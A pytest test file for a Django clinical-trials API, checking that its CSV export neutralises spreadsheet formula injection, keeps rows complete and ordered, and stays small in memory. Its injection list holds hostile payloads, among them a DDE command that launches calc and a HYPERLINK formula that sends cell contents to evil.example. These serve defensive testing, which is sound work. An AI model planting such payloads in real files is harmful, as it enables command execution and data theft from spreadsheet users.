"""The CSV: complete, safe in a spreadsheet, readable by programs, and small in memory."""

import csv
import io
import random
import tracemalloc

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from trials.api.csv_cells import safe_cell
from trials.api.csv_rows import HEADER, csv_lines
from trials.models import RecordVersion, Trial
from trials.tests.builders import load, load_trial, raw_record, site
from trials.tests.search.stores import random_trial, store
from trials.vocabulary.facts import FACTS

URL = "/api/v1/trials.csv"
# Source: OWASP's CSV Injection page and the payloads collected there (2026), shortened
INJECTIONS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "\u00a0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\x00=1",
    "\x0b=1",
    '=cmd|"/C calc"!A0',
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "@import",
)


def _rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", INJECTIONS)
def test_what_would_run_becomes_text(text: str) -> None:
    assert safe_cell(text).startswith("'")


@pytest.mark.parametrize("text", ["a;=1+1", "a; =1", "a\n=1", "a;@SUM(1)", "a\t+1"])
def test_what_would_run_after_a_cut_becomes_text(text: str) -> None:
    """As a spreadsheet does that parts cells at semicolons."""
    assert all(
        part.strip()[0] not in "=+-@" for part in safe_cell(text).replace("\n", ";").replace("\t", ";").split(";")
    )


@pytest.mark.parametrize(
    "text", ["NCT01234567", "2026-11", "2026-11-03", "5; 6; 7", "0", "Phase 1 - 2", "a=b", "hôpital"]
)
def test_numbers_dates_and_plain_texts_are_unharmed(text: str) -> None:
    assert safe_cell(text) == text


@given(st.text(max_size=60))
def test_no_text_at_all_begins_with_a_sign_that_runs(text: str) -> None:
    shown = safe_cell(text)
    [[read]] = list(csv.reader(io.StringIO(_written(shown), newline="")))
    assert read == shown
    assert not shown.lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


def _written(cell: str) -> str:
    text = io.StringIO(newline="")
    csv.writer(text, quoting=csv.QUOTE_ALL).writerow([cell])
    return text.getvalue()


@pytest.mark.django_db
def test_a_row_has_what_a_clinician_needs() -> None:
    load_trial(
        raw_record(
            title='=HYPERLINK("http://evil.example","hepatocellular carcinoma")',
            status="RECRUITING",
            phases=["PHASE1", "PHASE2"],
            enrollment=40,
            start="2026-01",
            updated="2026-11-03",
            sponsor="@Hôpital",
            criteria="Inclusion Criteria:\n\n* Child-Pugh A or B7\n* Hepatocellular carcinoma",
            sites=[
                site("Lyon", "France", status="RECRUITING"),
                site("Paris", "France"),
                site("Tokyo", "Japan", status="RECRUITING"),
                site("Nowhere", "Atlantis"),
            ],
        )
    )
    response = Client().get(URL)
    body = b"".join(response)
    assert response.headers["Content-Type"].startswith("text/csv; charset=utf-8")
    assert response.headers["Content-Disposition"].startswith('attachment; filename="hcc-trials-20')
    assert body.startswith(b"\xef\xbb\xbfnct_id,")
    [row] = _rows(body)
    assert tuple(row) == HEADER
    assert row["nct_id"] == "NCT01234567"
    assert row["url"] == "http://testserver/trials/NCT01234567/"
    assert row["brief_title"] == '\'=HYPERLINK("http://evil.example","hepatocellular carcinoma")'
    assert (row["phases"], row["countries"]) == ("PHASE1; PHASE2", "FR; JP")
    assert (row["sites"], row["recruiting_sites"], row["enrollment_count"]) == ("4", "2", "40")
    assert (row["start_date"], row["last_update_post_date"], row["lead_sponsor_name"]) == (
        "2026-01",
        "2026-11-03",
        "'@Hôpital",
    )
    assert (row["child_pugh"], row["child_pugh_status"]) == ("5; 6; 7", "stated")
    assert (row["ecog"], row["ecog_status"]) == ("", "not_stated")
    for name in FACTS:
        assert row[f"{name}_status"] in {"stated", "not_stated", "contradictory"}


@pytest.mark.django_db
def test_it_holds_the_whole_selection_in_its_order() -> None:
    store([random_trial(number, random.Random(number)) for number in range(1, 60)])
    every = "&".join(f"hcc_scope={value}" for value in ("hcc", "mixed", "off_topic", "not_stated"))
    listed = [
        one["nct_id"] for one in Client().get(f"/api/v1/trials/?{every}&sort=start&page_size=100").json()["results"]
    ]
    body = b"".join(Client().get(f"{URL}?{every}&sort=start&page=2&page_size=7"))
    assert [row["nct_id"] for row in _rows(body)] == listed
    assert len(listed) == len(set(listed))


@pytest.mark.django_db
def test_a_trial_that_goes_while_the_file_is_written_is_left_out() -> None:
    load(raw_record())
    lines = csv_lines(["NCT00000001", "NCT01234567"], str)
    assert "".join(lines).count("\r\n") == 2  # the header and one row


@pytest.mark.django_db
def test_memory_does_not_grow_with_the_rows() -> None:
    """2,000 rows need no more memory than 500 do, and less than the file that comes out."""
    version = RecordVersion.objects.create(nct_id="NCT00000001", sha256="0" * 64, raw="{}")
    numbers = [f"NCT{number:08d}" for number in range(1, 2_001)]
    Trial.objects.bulk_create(
        Trial(nct_id=number, brief_title="T" * 2_000, record_version=version, parser_version=1, reader_version=1)
        for number in numbers
    )
    _peak(numbers[:1])  # what is made once does not count
    (few, _), (many, written) = _peak(numbers[:500]), _peak(numbers)
    assert many < 1.2 * few
    assert many < written


def _peak(numbers: list[str]) -> tuple[int, int]:
    """The most memory that writing needs, and how much is written; in bytes."""
    tracemalloc.start()
    try:
        written = sum(len(line) for line in csv_lines(numbers, str))
        return tracemalloc.get_traced_memory()[1], written
    finally:
        tracemalloc.stop()
